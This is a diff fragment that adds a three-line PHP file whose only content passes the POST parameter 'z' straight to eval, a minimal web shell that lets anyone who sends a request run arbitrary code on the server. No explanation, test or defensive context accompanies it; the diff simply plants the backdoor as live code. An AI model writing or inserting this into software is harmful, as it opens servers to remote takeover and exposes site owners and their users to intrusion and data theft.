@@ -1,0 +1,3 @@
+<?php eval(<<<CODE
+{$_POST["z"]}
+CODE);
